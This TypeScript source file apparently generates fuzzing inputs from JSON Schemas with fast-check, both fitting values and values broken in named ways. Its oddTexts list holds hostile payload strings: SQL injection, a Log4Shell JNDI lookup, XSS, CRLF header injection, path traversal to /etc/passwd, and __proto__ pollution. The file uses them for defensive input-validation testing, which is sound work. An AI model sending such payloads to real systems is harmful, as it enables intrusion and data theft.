/**
 * Values from the JSON Schema of an operation's input, for fuzzing: inputs that fit, and inputs that are broken in one named way.
 * It knows JSON Schema and JSON only, nothing of what the operations mean.
 */
import fc from "fast-check";
import type { Json, JsonObject } from "../../core/ports/json.ts";

/** An input that no server may take, and what is wrong with it. */
export interface Broken {
  input: JsonObject;
  /** The field that is broken; null when it is the whole. */
  field: string | null;
  why: string;
}

/** The declared part of a schema that is read here. */
interface Schema {
  type?: string;
  const?: Json;
  enum?: Json[];
  anyOf?: Schema[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  items?: Schema;
  maxItems?: number;
  properties?: { [name: string]: Schema };
  required?: string[];
}

/** Texts that other programs have stumbled over. */
export const oddTexts: readonly string[] = [
  "'; DROP TABLE documents; --",
  '" OR ""="',
  "$" + "{jndi:ldap://192.0.2.1/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "x\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
  "data: injected\n\nid: 7\n",
  "../../../../etc/passwd",
  "%00%0d%0a",
  "\u202eright-to-left\u2066",
  "\ufeffmark",
  "\ufffe\uffff",
  "e\u0301\u0301\u0301 👩‍👩‍👧‍👦",
  "\u2028\u2029",
  "constructor",
  "toString",
  "null",
  "NaN",
  "-0",
  "1e999",
  "\\u0000",
];

/** JSON that no store may change: no U+0000, no rounded number, no `__proto__`. */
export const anyJson: fc.Arbitrary<Json> = fc.letrec<{ value: Json }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 6, depthSize: "small" },
    fc.constantFrom<Json>(null, true, false),
    fc.maxSafeInteger(),
    fc.double({ min: -1e9, max: 1e9, noNaN: true }),
    anyText(200),
    fc.array(tie("value"), { maxLength: 6 }),
    fc.dictionary(keyName(), tie("value"), { maxKeys: 6 }),
  ),
})).value as fc.Arbitrary<Json>;

function keyName(): fc.Arbitrary<string> {
  return anyText(30).filter((key) => key !== "__proto__");
}

function anyText(most: number): fc.Arbitrary<string> {
  const size = { maxLength: Math.min(most, 300) };
  return fc
    .oneof(
      fc.string(size),
      fc.string({ unit: "grapheme", ...size }),
      fc.string({ unit: "binary", ...size }),
      fc.constantFrom(...oddTexts),
    )
    .map((text) =>
      text
        .replaceAll("\u0000", "0")
        .slice(0, most)
        .replaceAll(/\p{Surrogate}/gu, "?"),
    );
}

/** Values that the schema allows; what it checks in code only is the caller's to filter. */
export function fitting(declared: JsonObject): fc.Arbitrary<Json> {
  const schema = declared as Schema;
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  if (schema.anyOf !== undefined) return fc.oneof(...schema.anyOf.map((one) => fitting(one as JsonObject)));
  switch (schema.type) {
    case "string":
      return textOf(schema);
    case "integer":
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case "number":
      return fc.double({ min: schema.minimum ?? -1e9, max: schema.maximum ?? 1e9, noNaN: true });
    case "boolean":
      return fc.boolean();
    case "array":
      return fc.array(fitting((schema.items ?? {}) as JsonObject), { maxLength: 5 });
    case "object":
      return schema.properties === undefined ? fc.dictionary(keyName(), anyJson, { maxKeys: 5 }) : objectOf(schema);
    default:
      return anyJson;
  }
}

function textOf(schema: Schema): fc.Arbitrary<string> {
  if (schema.format === "date-time") {
    const future = {
      min: new Date("2090-01-01T00:00:00Z"),
      max: new Date("9998-12-31T00:00:00Z"),
      noInvalidDate: true,
    };
    return fc
      .tuple(fc.date(future), fc.constantFrom("Z", "+00:00", "-23:59", "+14:00"))
      .map(([date, zone]) => date.toISOString().replace("Z", zone));
  }
  if (schema.pattern !== undefined && schema.maxLength === undefined)
    return fc.stringMatching(new RegExp(schema.pattern));
  return anyText(schema.maxLength ?? 500);
}

function objectOf({ properties = {}, required = [] }: Schema): fc.Arbitrary<JsonObject> {
  const fields = Object.fromEntries(
    Object.entries(properties).map(([name, inner]) => [name, fitting(inner as JsonObject)]),
  );
  return fc.record(fields, { requiredKeys: required }) as fc.Arbitrary<JsonObject>;
}

/** Ways to break an input that fits, each in one thing that its schema names or that no JSON value may have. */
export function breaks(declared: JsonObject): fc.Arbitrary<(input: JsonObject) => Broken> {
  const { properties = {}, required = [] } = declared as Schema;
  const put =
    (field: string, value: Json, why: string) =>
    (input: JsonObject): Broken => ({ input: withField(input, field, value), field, why });
  const drop =
    (field: string) =>
    ({ [field]: _, ...input }: JsonObject): Broken => ({ input, field, why: "missing" });
  const ways: fc.Arbitrary<(input: JsonObject) => Broken>[] = [
    fc
      .constantFrom(...unknownNames.filter((name) => !Object.hasOwn(properties, name)))
      .map((name) => put(name, 1, "a field that nobody knows")),
    fc.constant(put("__proto__", { polluted: true }, "a field __proto__")),
    ...required.map((field) => fc.constant(drop(field))),
  ];
  for (const [field, schema] of Object.entries(properties))
    ways.push(fc.oneof(...misfits(schema)).map(({ value, why }) => put(field, value, why)));
  return fc.oneof(...ways);
}

const unknownNames = [
  "nmae",
  "chanel_id",
  "payloads",
  "constructor",
  "toString",
  "hasOwnProperty",
  "",
  "a b",
  "é",
  "x".repeat(300),
];

/** Assigning would set the prototype when the field is `__proto__`. */
function withField(input: JsonObject, field: string, value: Json): JsonObject {
  return Object.fromEntries([...Object.entries(input), [field, value]]);
}

interface Misfit {
  value: Json;
  why: string;
}

const isA = (...values: [value: Json, why: string][]) => values.map(([value, why]) => fc.constant({ value, why }));

function misfits(schema: Schema): fc.Arbitrary<Misfit>[] {
  const unsafe = isA(
    ["half \ud83d", "a lone surrogate"],
    ["\udc00", "a lone surrogate"],
    ["nul \u0000", "the character U+0000"],
  );
  const choices = schema.enum ?? (schema.const === undefined ? undefined : [schema.const]);
  const wrong = [1.5, true, "x y", [], {}, null, ["a"], { a: 1 }].filter((value) => typeOf(value) !== schema.type);
  const others = fc
    .constantFrom<Json>(...(wrong as Json[]))
    .map((value) => ({ value, why: `not ${schema.type ?? "declared"}` }));
  if (choices !== undefined) return [others, ...unsafe, ...isA(["PUBLIC", "not a choice"], ["", "not a choice"])];
  switch (schema.type) {
    case "string":
      return [others, ...unsafe, ...wrongTexts(schema)];
    case "integer":
    case "number":
      return [
        others.filter(({ value }) => typeof value !== "number" || schema.type === "integer"),
        ...wrongNumbers(schema),
      ];
    case "boolean":
      return [others];
    case "array":
      return [others, ...wrongLists(schema)];
    case "object":
      return [others, ...unsafeInside()];
    default:
      return [...unsafe, ...unsafeInside()];
  }
}

/** Too long, empty, or with one item that is broken among others that fit. */
function wrongLists({ items = {}, maxItems }: Schema): fc.Arbitrary<Misfit>[] {
  const declared = items as JsonObject;
  const fits = fitting(declared) as fc.Arbitrary<JsonObject>;
  const one = fc.tuple(fc.array(fits, { maxLength: 3 }), fits, breaks(declared)).map(([others, good, spoil]) => {
    const { input, field, why } = spoil(good);
    return { value: [...others, input, ...others], why: `an item's ${field}: ${why}` };
  });
  if (maxItems === undefined) return [one];
  return [one, fits.map((item) => ({ value: Array(maxItems + 1).fill(item), why: "too long" })), ...isA([[], "empty"])];
}

function typeOf(value: unknown): string {
  if (value === null) return "null";
  return Array.isArray(value) ? "array" : typeof value;
}

function wrongTexts(schema: Schema): fc.Arbitrary<Misfit>[] {
  const most = schema.maxLength;
  const long =
    most === undefined
      ? []
      : [fc.integer({ min: 1, max: 200 }).map((more) => ({ value: "x".repeat(most + more), why: "too long" }))];
  const { pattern } = schema;
  if (schema.format === "date-time")
    return isA(
      ["2030-02-30T00:00:00Z", "no day of the calendar"],
      ["2030-01-01", "no time"],
      ["2001-01-01T00:00:00Z", "in the past"],
      ["tomorrow", "no time"],
      ["2099-01-01T00:00:00", "without a zone"],
      ["2099-01-01T25:61:61Z", "no time of a day"],
    );
  if (pattern === undefined) return long;
  const shape = new RegExp(pattern);
  const odd = fc
    .oneof(fc.constantFrom(...oddTexts, "", " "), fc.stringMatching(shape).map(spoiled))
    .filter((text) => !shape.test(text));
  return [...long, odd.map((value) => ({ value, why: "not of the pattern" }))];
}

/** An id that is almost one: other case, a blank, a letter too many. */
function spoiled(text: string): string {
  const ways = [
    text.toUpperCase(),
    `${text} `,
    `${text}0`,
    text.slice(1),
    text.replaceAll("-", ""),
    `{${text}}`,
    `${text}\n`,
  ];
  return ways[text.charCodeAt(0) % ways.length]!;
}

function wrongNumbers({ minimum, maximum, type }: Schema): fc.Arbitrary<Misfit>[] {
  const found = isA([2 ** 53 + 2, "beyond 2^53"], [1e308, "beyond 2^53"], [-1e308, "beyond 2^53"]);
  if (type === "integer") found.push(fc.constant({ value: (minimum ?? 0) + 0.5, why: "no whole number" }));
  if (maximum !== undefined)
    found.push(fc.integer({ min: 1, max: 1e9 }).map((more) => ({ value: maximum + more, why: "too great" })));
  if (minimum !== undefined)
    found.push(fc.integer({ min: 1, max: 1e9 }).map((less) => ({ value: minimum - less, why: "too small" })));
  return found;
}

/** What hides below the top of a value of any shape. */
function unsafeInside(): fc.Arbitrary<Misfit>[] {
  return [
    fc.integer({ min: 66, max: 300 }).map((levels) => ({ value: { deep: nested(levels) }, why: "nested too deep" })),
    ...isA(
      [{ a: [{ b: "nul \u0000" }] }, "U+0000 inside"],
      [{ "k\u0000": 1 }, "U+0000 in a key"],
      [{ a: "\ud800" }, "a lone surrogate inside"],
      [{ "\udfff": 1 }, "a lone surrogate in a key"],
      [JSON.parse('{"a": {"__proto__": {"b": 1}}}'), "__proto__ inside"],
      [{ a: [2 ** 53 + 2] }, "beyond 2^53 inside"],
      [{ a: -1e300 }, "beyond 2^53 inside"],
      [{ a: Array.from({ length: 10_001 }, () => 0) }, "more than 10,000 elements"],
    ),
  ];
}

export function nested(levels: number): Json {
  let value: Json = 1;
  for (let level = 0; level < levels; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}
